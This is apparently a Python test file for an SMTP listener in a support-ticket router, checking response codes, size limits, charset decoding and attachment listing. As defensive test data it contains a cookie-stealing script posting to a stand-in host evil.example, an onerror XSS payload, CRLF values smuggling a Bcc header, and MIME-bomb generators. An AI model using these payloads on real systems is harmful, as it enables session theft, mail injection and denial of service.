"""The SMTP listener against a real SMTP client (smtplib): what it answers, and when.

The listener is built as the router builds it, with a real store; the intake's `publish` is the
seam the gateway injects, so a test can hold it (250 only after it returned) or fail it (451).
Malformed and hostile mail is refused or neutralized with a log line, and the listener goes on.
"""

from __future__ import annotations

import asyncio
import smtplib
from email.message import EmailMessage

import pytest
from structlog.testing import capture_logs

from channels.email.inbound import EmailIntake
from channels.email.smtp_inbound import SmtpListener
from router.core.channel_settings import EmailSettings
from router.core.envelope import Envelope
from router.store.conversations import ConversationStore
from tests.conftest import migrated_sqlite
from tests.email_helpers import CUSTOMER, PAYMENT_FAILED_ZH, SUPPORT, customer_mail, send_smtp


class Published:
    """Stands where the gateway's intake would be: records what the listener publishes."""

    def __init__(self) -> None:
        self.envelopes: list[Envelope] = []
        self.gate: asyncio.Event | None = None
        self.fail_with: Exception | None = None

    async def __call__(self, envelope: Envelope) -> Envelope:
        if self.gate is not None:
            await self.gate.wait()
        if self.fail_with is not None:
            raise self.fail_with
        self.envelopes.append(envelope)
        return envelope


@pytest.fixture
async def listener(tmp_path):
    settings = EmailSettings(support_address=SUPPORT, smtp_max_bytes=10 * 1024 * 1024)
    published = Published()
    async with ConversationStore(await migrated_sqlite(tmp_path / "s.db")) as store:
        smtp = SmtpListener(settings, EmailIntake(settings, store, published), port=0)
        await smtp.start()
        try:
            yield smtp, published
        finally:
            await smtp.stop()


async def test_the_listener_answers_250_only_after_publish_returned(listener):
    smtp, published = listener
    published.gate = asyncio.Event()
    sending = asyncio.create_task(send_smtp(smtp.port, customer_mail(PAYMENT_FAILED_ZH)))
    await asyncio.sleep(0.5)
    assert not sending.done(), "the client had its answer before Kafka acknowledged"
    published.gate.set()
    assert await sending == {}  # smtplib: every recipient accepted
    assert published.envelopes[0].text == PAYMENT_FAILED_ZH


async def test_a_publish_failure_answers_451_so_the_sender_retries(listener):
    smtp, published = listener
    published.fail_with = ConnectionError("Kafka did not acknowledge")
    with capture_logs() as logs, pytest.raises(smtplib.SMTPDataError) as refused:
        await send_smtp(smtp.port, customer_mail(PAYMENT_FAILED_ZH))
    assert refused.value.smtp_code == 451
    assert any(e["event"] == "email.publish_failed" for e in logs)
    published.fail_with = None
    await send_smtp(smtp.port, customer_mail(PAYMENT_FAILED_ZH))  # the retry goes through
    assert len(published.envelopes) == 1


async def test_a_20_mb_attachment_is_refused_with_552(listener):
    smtp, published = listener
    mail = customer_mail("see the statement attached")
    mail.add_attachment(
        b"\0" * (20 * 1024 * 1024), maintype="application", subtype="pdf", filename="statement.pdf"
    )
    with pytest.raises((smtplib.SMTPSenderRefused, smtplib.SMTPDataError)) as refused:
        await send_smtp(smtp.port, mail)
    assert refused.value.smtp_code == 552
    assert published.envelopes == []
    await send_smtp(smtp.port, customer_mail("still there?"))
    assert len(published.envelopes) == 1


def _send_without_size_parameter(port: int, raw: bytes) -> None:
    # A client that does not announce SIZE: the listener must count the data it reads.
    with smtplib.SMTP("127.0.0.1", port, timeout=60) as client:
        client.ehlo()
        client.esmtp_features.pop("size", None)
        client.sendmail(CUSTOMER, [SUPPORT], raw)


async def test_oversized_data_without_a_size_announcement_is_refused_with_552(listener):
    smtp, published = listener
    mail = customer_mail("big")
    mail.add_attachment(
        b"\0" * (12 * 1024 * 1024), maintype="application", subtype="octet-stream", filename="x.bin"
    )
    with pytest.raises(smtplib.SMTPDataError) as refused:
        await asyncio.to_thread(
            _send_without_size_parameter,
            smtp.port,
            mail.as_bytes(policy=mail.policy.clone(linesep="\r\n")),
        )
    assert refused.value.smtp_code == 552
    assert published.envelopes == []


def _nested_bomb(depth: int) -> bytes:
    head = f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: bomb\r\nMessage-ID: <bomb@example.net>\r\nMIME-Version: 1.0\r\n"
    body = "".join(
        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(depth)
    )
    body += "Content-Type: text/plain\r\n\r\nhello\r\n" + "".join(
        f"--b{i}--\r\n" for i in reversed(range(depth))
    )
    return (head + body).encode()


def _wide_bomb(parts: int) -> bytes:
    head = f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: wide\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n"
    return (head + "--zz\r\nContent-Type: text/plain\r\n\r\nx\r\n" * parts + "--zz--\r\n").encode()


@pytest.mark.parametrize("bomb", [_nested_bomb(2000), _wide_bomb(100_000)], ids=["nested", "wide"])
async def test_a_mime_bomb_is_refused_with_554_and_a_log_line(listener, bomb):
    smtp, published = listener
    with capture_logs() as logs, pytest.raises(smtplib.SMTPDataError) as refused:
        await send_smtp(smtp.port, bomb)
    assert refused.value.smtp_code == 554 and b"MIME structure" in refused.value.smtp_error
    assert [e for e in logs if e["event"] == "email.refused"]
    assert published.envelopes == []
    await send_smtp(smtp.port, customer_mail("after the bomb"))
    assert published.envelopes[0].text == "after the bomb"


async def test_script_in_html_is_removed_and_logged(listener):
    smtp, published = listener
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = CUSTOMER, SUPPORT, "html only"
    mail.set_content(
        "<html><body><p>转账失败了</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        "<img src=x onerror=alert(1)><p>钱已经扣了</p></body></html>",
        subtype="html",
    )
    with capture_logs() as logs:
        await send_smtp(smtp.port, mail)
    text = published.envelopes[0].text
    assert text == "转账失败了\n\n钱已经扣了"
    neutralized = [e for e in logs if e["event"] == "email.neutralized"]
    assert "html_removed:script" in neutralized[0]["problems"]
    assert "html_removed:event_handler" in neutralized[0]["problems"]


async def test_a_forged_from_with_crlf_is_neutralized(listener):
    smtp, published = listener
    raw = (
        f"From: =?utf-8?q?Eve=0D=0ABcc:_victim@evil.example?= <eve@example.com>\r\nTo: {SUPPORT}\r\n"
        "Subject: =?utf-8?q?hello=0D=0ABcc:_victim@evil.example?=\r\nMessage-ID: <forged@example.com>\r\n\r\n"
        "my transfer failed\r\n"
    ).encode()
    with capture_logs() as logs:
        await send_smtp(smtp.port, raw, sender="eve@example.com")
    envelope = published.envelopes[0]
    assert envelope.sender.address == "eve@example.com"
    assert "\r" not in (envelope.sender.name or "") and "\n" not in (envelope.sender.name or "")
    assert "\n" not in envelope.subject and "\r" not in envelope.subject
    problems = next(e for e in logs if e["event"] == "email.neutralized")["problems"]
    assert "header_line_break:From" in problems and "header_line_break:Subject" in problems


async def test_a_from_naming_two_addresses_falls_back_to_the_smtp_sender(listener):
    smtp, published = listener
    raw = f"From: victim@evil.example, eve@example.com\r\nTo: {SUPPORT}\r\nSubject: x\r\n\r\nhello\r\n".encode()
    await send_smtp(smtp.port, raw, sender="eve@example.com")
    assert published.envelopes[0].sender.address == "eve@example.com"


async def test_mail_without_any_valid_sender_is_refused_with_550(listener):
    smtp, published = listener
    raw = f"From: nobody\r\nTo: {SUPPORT}\r\nSubject: x\r\n\r\nhello\r\n".encode()
    with pytest.raises(smtplib.SMTPDataError) as refused:
        await send_smtp(smtp.port, raw, sender="")
    assert refused.value.smtp_code == 550
    assert published.envelopes == []


async def test_invalid_bytes_and_an_unknown_charset_are_decoded_with_replacement(listener):
    smtp, published = listener
    raw = (
        (
            f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: =?x-martian?q?hi?=\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=x-martian\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        ).encode()
        + "转账失败".encode()
        + b"\xff\xfe\xfa"
        + b" TX1\r\n"
    )
    with capture_logs() as logs:
        await send_smtp(smtp.port, raw)
    envelope = published.envelopes[0]
    assert envelope.text.startswith("转账失败") and envelope.text.endswith("TX1")
    problems = next(e for e in logs if e["event"] == "email.neutralized")["problems"]
    assert "unknown_charset" in problems and "invalid_bytes" in problems


async def test_gb2312_mail_is_read_even_with_gbk_only_characters(listener):
    smtp, published = listener
    text = "转账失败了，钱已经扣了 — 镕"  # 镕 is in GBK, not in GB2312
    raw = (
        (
            f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        ).encode()
        + text.encode("gb18030")
        + b"\r\n"
    )
    await send_smtp(smtp.port, raw)
    assert published.envelopes[0].text == text


async def test_attachments_are_listed_as_metadata_within_a_bound(listener):
    smtp, published = listener
    mail = customer_mail("转账失败，截图见附件")
    mail.add_attachment(
        b"\x89PNG" + b"\0" * 2000, maintype="image", subtype="png", filename="转账截图.png"
    )
    for i in range(30):
        mail.add_attachment(b"x", maintype="text", subtype="csv", filename=f"f{i}.csv")
    await send_smtp(smtp.port, mail)
    envelope = published.envelopes[0]
    assert envelope.attachments[0].model_dump() == {
        "name": "转账截图.png",
        "content_type": "image/png",
        "size": 2004,
    }
    assert len(envelope.attachments) == 20
    assert "attachments_not_listed:11" in envelope.thread["problems"]
